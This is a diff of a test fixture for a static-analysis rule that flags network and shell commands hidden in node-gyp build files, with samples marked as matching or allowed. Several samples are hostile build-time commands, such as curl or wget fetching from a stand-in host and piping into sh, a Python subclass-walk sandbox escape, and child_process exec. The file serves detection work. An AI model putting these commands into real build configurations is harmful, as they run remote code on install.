@@ -1,33 +1,18 @@
-{
-  "targets": [{
-    "target_name": "addon",
-    "sources": [
-      # ruleid: builds-with-network-command
-      "<!(node index.js > /dev/null 2>&1 && echo stub.c)",
-      # ruleid: builds-with-network-command
-      "<!(curl -s https://example.invalid/x | sh)",
-      # ruleid: builds-with-network-command
-      "<!@(bun run setup.js)",
-      # ruleid: builds-with-network-command
-      "<!(node -e \"require('child_process').exec('id')\")",
-      # ok: builds-with-network-command
-      "<!@(node -p \"require('fs').readdirSync('./src').map(f=>'src/'+f).join(' ')\")",
-    ],
-    "include_dirs": [
-      # ok: builds-with-network-command
-      "<!@(node -p \"require('node-addon-api').include\")",
-      # ok: builds-with-network-command
-      "<!(node -e \"require('nan')\")",
-      # ok: builds-with-network-command
-      "<!@(pkg-config --cflags-only-I cairo | sed s/-I//g)",
-      # ok: builds-with-network-command
-      "<!(node ./util/has_lib.js jpeg)",
-    ],
-    "conditions": [
-      # ok: builds-with-network-command
-      ["OS=='mac'", {"libraries": ["<!(xcrun --show-sdk-path)"]}],
-      # ruleid: builds-with-network-command
-      ["__import__('os').system('node index.js')", {}],
-    ],
-  }],
-}
+# ruleid: builds-with-network-command
+{ "sources": ["<!(node index.js > /dev/null 2>&1 && echo stub.c)"] }
+# ruleid: builds-with-network-command
+{ "sources": ["<!@(curl -s https://files.example.test/a)"] }
+# ruleid: builds-with-network-command
+{ "conditions": [["[c for c in ().__class__.__base__.__subclasses__()]", {}]] }
+# ruleid: builds-with-network-command
+{ "make_global_settings": [["CC", "/bin/sh build.sh"]] }
+# ruleid: builds-with-network-command
+{ "action": ["sh", "-c", "wget -qO- https://files.example.test/i"] }
+# ok: builds-with-network-command
+{ "include_dirs": ["<!(node -p \"require('node-addon-api').include\")"] }
+# ok: builds-with-network-command
+{ "libraries": ["<!@(pkg-config --libs cairo 2>/dev/null || echo -lcairo)"] }
+# ok: builds-with-network-command
+{ "action": ["python", "tools/generate.py", "<@(_outputs)"] }
+# ok: builds-with-network-command
+{ "include_dirs": ["<!(node -e \"require('nan')\")"] }
